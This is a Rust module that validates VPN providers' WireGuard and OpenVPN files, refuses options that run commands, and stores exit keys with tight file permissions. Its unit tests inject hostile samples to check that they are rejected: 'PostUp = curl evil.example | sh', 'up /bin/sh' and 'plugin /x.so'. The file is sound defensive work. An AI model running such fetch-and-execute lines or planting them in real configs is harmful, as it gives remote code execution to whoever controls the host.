//! Exits' inputs: a provider's wg-quick file split into what the config holds (its public
//! half) and what stays in `secrets/exits/<name>/` (the private and preshared keys).

use std::fs;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};

use ipnet::Ipv4Net;

use crate::config::syntax::{is_label, is_wireguard_key};
use crate::config::{FieldError, ValidationErrors, WireGuardExit};
use crate::error::{Error, IoContext};
use crate::fsutil;

/// A provider's wg-quick file, read.
#[derive(Debug, PartialEq)]
pub struct ProviderFile {
    pub exit: WireGuardExit,
    pub private_key: String,
    pub preshared_key: Option<String>,
}

impl ProviderFile {
    /// Reads a wg-quick file (`[Interface]` and one `[Peer]`). Every problem is reported at once,
    /// each naming its line; keys that would run commands (`PostUp` and the like) are refused,
    /// as the cell runs nothing a file says.
    pub fn parse(text: &str) -> Result<ProviderFile, ValidationErrors> {
        let mut errors = Problems(Vec::new());
        let mut section = "";
        let mut peers = 0;
        let (mut private_key, mut address, mut dns, mut mtu) = (None, None, None, None);
        let (mut public_key, mut preshared_key, mut endpoint, mut allowed) = (None, None, None, None);
        for (i, raw) in text.lines().enumerate() {
            let n = i + 1;
            let line = raw.split('#').next().unwrap_or("").trim();
            if line.is_empty() {
                continue;
            }
            if line.starts_with('[') {
                section = match line {
                    "[Interface]" => "interface",
                    "[Peer]" => {
                        peers += 1;
                        "peer"
                    }
                    other => {
                        errors.at(
                            n,
                            format!("{other} is not a section of a WireGuard file"),
                            "use [Interface] and [Peer]",
                        );
                        ""
                    }
                };
                continue;
            }
            let Some((key, value)) = line.split_once('=') else {
                errors.at(n, format!("{line:?} is not `Key = Value`"), "each line sets one key");
                continue;
            };
            let (key, value) = (key.trim(), value.trim().to_owned());
            match (section, key) {
                ("interface", "PrivateKey") => private_key = Some((n, value)),
                ("interface", "Address") => address = Some((n, value)),
                ("interface", "DNS") => dns = Some((n, value)),
                ("interface", "MTU") => mtu = Some((n, value)),
                ("interface", "ListenPort" | "FwMark" | "Table" | "SaveConfig") => {}
                ("interface", "PreUp" | "PostUp" | "PreDown" | "PostDown") => errors.at(
                    n,
                    format!("{key} runs a command; the cell runs none from a provider's file"),
                    "remove the line: the cell sets up the exit's routes and firewall itself",
                ),
                ("peer", "PublicKey") => public_key = Some((n, value)),
                ("peer", "PresharedKey") => preshared_key = Some((n, value)),
                ("peer", "Endpoint") => endpoint = Some((n, value)),
                ("peer", "AllowedIPs") => allowed = Some((n, value)),
                ("peer", "PersistentKeepalive") => {}
                ("", _) => errors.at(n, format!("{key} comes before any section"), "start with [Interface]"),
                _ => errors.at(n, format!("{key} is not a key of a WireGuard [{section}] section"), "remove the line"),
            }
        }
        if peers != 1 {
            errors.at(
                0,
                format!("the file has {peers} [Peer] sections"),
                "an exit is one provider server: give exactly one",
            );
        }
        for (found, what) in [
            (&private_key, "[Interface] PrivateKey"),
            (&address, "[Interface] Address"),
            (&dns, "[Interface] DNS (the provider's DNS server, which the exit's devices ask)"),
            (&public_key, "[Peer] PublicKey"),
            (&endpoint, "[Peer] Endpoint"),
        ] {
            if found.is_none() {
                errors.at(0, format!("the file has no {what}"), "use the file the provider gave, unchanged");
            }
        }
        for (n, value) in [&private_key, &public_key, &preshared_key].into_iter().flatten() {
            if !is_wireguard_key(value) {
                errors.at(*n, "is not a WireGuard key".into(), "give the 44-character base64 key");
            }
        }
        // The first IPv4 address of a list (providers add an IPv6 one, which the cell does not route).
        let first_v4 = |value: &str| {
            value.split(',').find_map(|a| {
                a.trim().parse::<Ipv4Net>().ok().or_else(|| a.trim().parse::<Ipv4Addr>().ok().map(Ipv4Net::from))
            })
        };
        let address_net = address.as_ref().and_then(|(n, v)| {
            let found = first_v4(v);
            if found.is_none() {
                errors.at(*n, format!("{v:?} holds no IPv4 address"), "the cell's exits carry IPv4");
            }
            found
        });
        let dns_addr = dns.as_ref().and_then(|(n, v)| {
            let found = v.split(',').find_map(|a| a.trim().parse::<Ipv4Addr>().ok());
            if found.is_none() {
                errors.at(*n, format!("{v:?} holds no IPv4 address"), "give the provider's DNS server's IPv4 address");
            }
            found
        });
        let mtu_value = mtu.as_ref().and_then(|(n, v)| {
            let parsed = v.parse::<u16>().ok();
            if parsed.is_none() {
                errors.at(*n, format!("{v:?} is not a number"), "give the MTU in bytes, e.g. 1420");
            }
            parsed
        });
        if let Some((n, v)) = &allowed {
            let everything = v.split(',').any(|a| a.trim() == "0.0.0.0/0");
            if !everything {
                errors.at(
                    *n,
                    format!("AllowedIPs {v} does not carry the internet"),
                    "an exit needs AllowedIPs = 0.0.0.0/0",
                );
            }
        }
        if !errors.0.is_empty() {
            return Err(ValidationErrors(errors.0));
        }
        let value = |found: Option<(usize, String)>| found.map(|(_, v)| v).unwrap_or_default();
        Ok(ProviderFile {
            exit: WireGuardExit {
                address: address_net.expect("checked"),
                dns: dns_addr.expect("checked"),
                public_key: value(public_key),
                endpoint: value(endpoint),
                mtu: mtu_value,
            },
            private_key: value(private_key),
            preshared_key: preshared_key.map(|(_, v)| v),
        })
    }
}

/// A provider's OpenVPN (`.ovpn`) file, checked: it may hold options and inline keys, but
/// nothing that runs a program, loads a plugin, reads another file or writes one.
#[derive(Debug, PartialEq, Eq)]
pub struct OpenVpnFile {
    /// The file as given (kept in `secrets/`: its inline keys are secret).
    pub text: String,
    /// Its `remote` lines' values: `host [port] [proto]`.
    pub remotes: Vec<String>,
    /// It asks for a user name and password (`auth-user-pass`).
    pub needs_credentials: bool,
}

/// Options that run programs or plugins, or that the exit's container sets itself.
const OPENVPN_REFUSED: &[(&str, &str)] = &[
    ("up", "runs a program"),
    ("down", "runs a program"),
    ("route-up", "runs a program"),
    ("route-pre-down", "runs a program"),
    ("ipchange", "runs a program"),
    ("tls-verify", "runs a program"),
    ("auth-user-pass-verify", "runs a program"),
    ("client-connect", "runs a program"),
    ("client-disconnect", "runs a program"),
    ("learn-address", "runs a program"),
    ("script-security", "allows programs to run"),
    ("plugin", "loads a plugin into OpenVPN"),
    ("management", "opens a control port"),
    ("config", "reads another file"),
    ("cd", "changes OpenVPN's folder"),
    ("chroot", "is the container's to set"),
    ("daemon", "is the container's to set"),
    ("log", "writes a file"),
    ("log-append", "writes a file"),
    ("writepid", "writes a file"),
    ("status", "writes a file"),
    ("tmp-dir", "writes files"),
    ("dev-node", "is the container's to set"),
    ("iproute", "runs a program"),
];

/// Inline blocks a client file may hold.
const OPENVPN_INLINE: &[&str] =
    &["ca", "cert", "key", "tls-auth", "tls-crypt", "tls-crypt-v2", "extra-certs", "pkcs12", "secret"];

impl OpenVpnFile {
    /// Reads an `.ovpn` file; every problem is reported at once, each naming its line.
    pub fn parse(text: &str) -> Result<OpenVpnFile, ValidationErrors> {
        let mut errors = Problems(Vec::new());
        let mut remotes = Vec::new();
        let mut needs_credentials = false;
        let mut inline: Option<(usize, String)> = None;
        for (i, raw) in text.lines().enumerate() {
            let n = i + 1;
            let line = raw.trim();
            if let Some((_, tag)) = &inline {
                if line == format!("</{tag}>") {
                    inline = None;
                }
                continue;
            }
            if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
                continue;
            }
            if let Some(tag) = line.strip_prefix('<').and_then(|l| l.strip_suffix('>')) {
                if OPENVPN_INLINE.contains(&tag) {
                    inline = Some((n, tag.to_owned()));
                } else {
                    errors.at(n, format!("<{tag}> is not a block a client file holds"), "remove it");
                }
                continue;
            }
            let mut words = line.split_whitespace();
            let option = words.next().unwrap_or_default().trim_start_matches("--");
            let args: Vec<&str> = words.collect();
            if let Some((_, why)) = OPENVPN_REFUSED.iter().find(|(name, _)| *name == option) {
                errors.at(
                    n,
                    format!("`{option}` {why}; the cell runs nothing a provider's file says"),
                    "remove the line: the exit's container sets up its routes and firewall itself",
                );
                continue;
            }
            match option {
                "remote" if !args.is_empty() => remotes.push(args.join(" ")),
                "remote" => errors.at(n, "`remote` names no server".into(), "give `remote <host> [port] [proto]`"),
                "auth-user-pass" if args.is_empty() => needs_credentials = true,
                "auth-user-pass" => errors.at(
                    n,
                    "`auth-user-pass` names a file; the cell keeps the user name and password itself".into(),
                    "leave the file name out and give them when adding the exit",
                ),
                _ if OPENVPN_INLINE.contains(&option) && !args.is_empty() => errors.at(
                    n,
                    format!("`{option}` refers to a file; the cell takes one self-contained file"),
                    &format!("put the file's contents inline, between <{option}> and </{option}>"),
                ),
                _ => {}
            }
        }
        if let Some((n, tag)) = inline {
            errors.at(n, format!("<{tag}> is never closed"), "end it with </tag>");
        }
        if remotes.is_empty() {
            errors.at(0, "the file names no server (`remote`)".into(), "use the file the provider gave, unchanged");
        }
        if !errors.0.is_empty() {
            return Err(ValidationErrors(errors.0));
        }
        Ok(OpenVpnFile { text: text.to_owned(), remotes, needs_credentials })
    }
}

/// Problems found in a file, each at its line (0: the file as a whole, named `file`).
struct Problems(Vec<FieldError>);

impl Problems {
    fn at(&mut self, line: usize, message: String, hint: &str) {
        let path = if line == 0 { "file".to_owned() } else { format!("line {line}") };
        self.0.push(FieldError { path, message, hint: hint.into() });
    }
}

/// The exits' keys, kept in the state directory's `secrets/exits/<name>/`.
pub struct ExitSecrets {
    dir: PathBuf,
}

impl ExitSecrets {
    pub fn new(secrets: &Path) -> ExitSecrets {
        ExitSecrets { dir: secrets.join("exits") }
    }

    fn folder(&self, name: &str) -> Result<PathBuf, Error> {
        // The name becomes a folder name: only a DNS label may.
        if !is_label(name) {
            return Err(Error::InvalidName(name.to_string()));
        }
        Ok(self.dir.join(name))
    }

    pub fn private_key_path(&self, name: &str) -> Result<PathBuf, Error> {
        Ok(self.folder(name)?.join("private.key"))
    }

    pub fn preshared_key_path(&self, name: &str) -> Result<PathBuf, Error> {
        Ok(self.folder(name)?.join("preshared.key"))
    }

    /// The exit's secrets folder (an OpenVPN exit's container mounts it read-only).
    pub fn folder_of(&self, name: &str) -> Result<PathBuf, Error> {
        self.folder(name)
    }

    /// Keeps an OpenVPN exit's file and, when it asks for them, its user name and password
    /// (`auth.txt`, as OpenVPN reads it), replacing the exit's earlier ones.
    pub fn store_openvpn(
        &self,
        name: &str,
        file: &OpenVpnFile,
        credentials: Option<(&str, &str)>,
    ) -> Result<(), Error> {
        let folder = self.folder(name)?;
        fsutil::ensure_dir(&self.dir, 0o700)?;
        fsutil::ensure_dir(&folder, 0o700)?;
        fsutil::write_atomic(&folder.join("client.ovpn"), file.text.as_bytes(), 0o600)?;
        let auth = folder.join("auth.txt");
        match credentials {
            Some((user, password)) => fsutil::write_atomic(&auth, format!("{user}\n{password}\n").as_bytes(), 0o600)?,
            None => match fs::remove_file(&auth) {
                Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(e).at(&auth),
                _ => {}
            },
        }
        Ok(())
    }

    /// Keeps a provider file's keys (replacing the exit's earlier ones).
    pub fn store(&self, name: &str, file: &ProviderFile) -> Result<(), Error> {
        let folder = self.folder(name)?;
        fsutil::ensure_dir(&self.dir, 0o700)?;
        fsutil::ensure_dir(&folder, 0o700)?;
        fsutil::write_atomic(&self.private_key_path(name)?, format!("{}\n", file.private_key).as_bytes(), 0o600)?;
        let preshared = self.preshared_key_path(name)?;
        match &file.preshared_key {
            Some(key) => fsutil::write_atomic(&preshared, format!("{key}\n").as_bytes(), 0o600)?,
            None => match fs::remove_file(&preshared) {
                Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(e).at(&preshared),
                _ => {}
            },
        }
        Ok(())
    }

    pub fn remove(&self, name: &str) -> Result<(), Error> {
        let folder = self.folder(name)?;
        match fs::remove_dir_all(&folder) {
            Err(e) if e.kind() != std::io::ErrorKind::NotFound => Err(e).at(&folder),
            _ => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = "# a provider's file
[Interface]
PrivateKey = YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw=
Address = 10.64.12.34/32, fc00:bbbb::1/128
DNS = 10.64.0.1
MTU = 1380

[Peer]
PublicKey = cHJvdmlkZXJwdWJsaWNrZXlwcm92aWRlcnB1YmxpY2s=
PresharedKey = Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycHk=
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = se-sto-wg-001.example.net:51820
";

    #[test]
    fn a_providers_file_is_split_into_config_and_secrets() {
        let file = ProviderFile::parse(FILE).unwrap();
        assert_eq!(file.exit.address, "10.64.12.34/32".parse::<Ipv4Net>().unwrap());
        assert_eq!(file.exit.dns, Ipv4Addr::new(10, 64, 0, 1));
        assert_eq!(file.exit.endpoint, "se-sto-wg-001.example.net:51820");
        assert_eq!(file.exit.mtu, Some(1380));
        assert_eq!(file.private_key, "YNqHwpcAmVj0lVzPATSQwP2yI7TsGO1vYjNeqVd7eFw=");
        assert_eq!(file.preshared_key.as_deref(), Some("Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycHk="));
    }

    #[test]
    fn every_problem_is_named_by_its_line() {
        let bad = FILE
            .replace("MTU = 1380", "PostUp = curl evil.example | sh")
            .replace("AllowedIPs = 0.0.0.0/0, ::/0", "AllowedIPs = 10.0.0.0/8")
            .replace("PublicKey = cHJv", "PublicKey = x");
        let errors = ProviderFile::parse(&bad).unwrap_err();
        let found: Vec<String> = errors.0.iter().map(|e| format!("{}: {}", e.path, e.message)).collect();
        assert_eq!(
            found,
            [
                "line 6: PostUp runs a command; the cell runs none from a provider's file",
                "line 9: is not a WireGuard key",
                "line 11: AllowedIPs 10.0.0.0/8 does not carry the internet",
            ],
            "{found:#?}"
        );
        let missing = ProviderFile::parse("[Interface]\nAddress = 10.1.2.3/32\n").unwrap_err();
        assert_eq!(missing.0.len(), 5, "{missing:?}");
    }

    const OVPN: &str = "client
dev tun
proto udp
remote vpn1.example.net 1194
remote vpn2.example.net 443 tcp
auth-user-pass
remote-cert-tls server
<ca>
-----BEGIN CERTIFICATE-----
up /bin/sh (inside a block: not an option)
-----END CERTIFICATE-----
</ca>
";

    #[test]
    fn an_openvpn_file_with_inline_keys_is_taken() {
        let file = OpenVpnFile::parse(OVPN).unwrap();
        assert_eq!(file.remotes, ["vpn1.example.net 1194", "vpn2.example.net 443 tcp"]);
        assert!(file.needs_credentials);
        assert_eq!(file.text, OVPN);
    }

    #[test]
    fn an_openvpn_file_that_would_run_anything_is_refused_at_its_lines() {
        let bad = OVPN.replace("proto udp", "up /bin/sh\nscript-security 2\nca /etc/ca.crt\nplugin /x.so");
        let errors = OpenVpnFile::parse(&bad).unwrap_err();
        let found: Vec<String> = errors.0.iter().map(|e| format!("{}: {}", e.path, e.message)).collect();
        assert_eq!(
            found,
            [
                "line 3: `up` runs a program; the cell runs nothing a provider's file says",
                "line 4: `script-security` allows programs to run; the cell runs nothing a provider's file says",
                "line 5: `ca` refers to a file; the cell takes one self-contained file",
                "line 6: `plugin` loads a plugin into OpenVPN; the cell runs nothing a provider's file says",
            ],
            "{found:#?}"
        );
        let unclosed = OpenVpnFile::parse("remote a.example 1194\n<key>\nsecret\n").unwrap_err();
        assert_eq!(unclosed.0[0].path, "line 2");
        assert_eq!(OpenVpnFile::parse("client\n").unwrap_err().0[0].path, "file");
    }

    #[test]
    fn keys_are_kept_apart_with_tight_modes() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().unwrap();
        let secrets = ExitSecrets::new(dir.path());
        let file = ProviderFile::parse(FILE).unwrap();
        secrets.store("provider", &file).unwrap();
        let key = secrets.private_key_path("provider").unwrap();
        assert_eq!(fs::read_to_string(&key).unwrap().trim(), file.private_key);
        assert_eq!(fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
        assert!(secrets.preshared_key_path("provider").unwrap().exists());
        assert!(secrets.private_key_path("../escape").is_err());
        secrets.remove("provider").unwrap();
        assert!(!key.exists());
    }
}
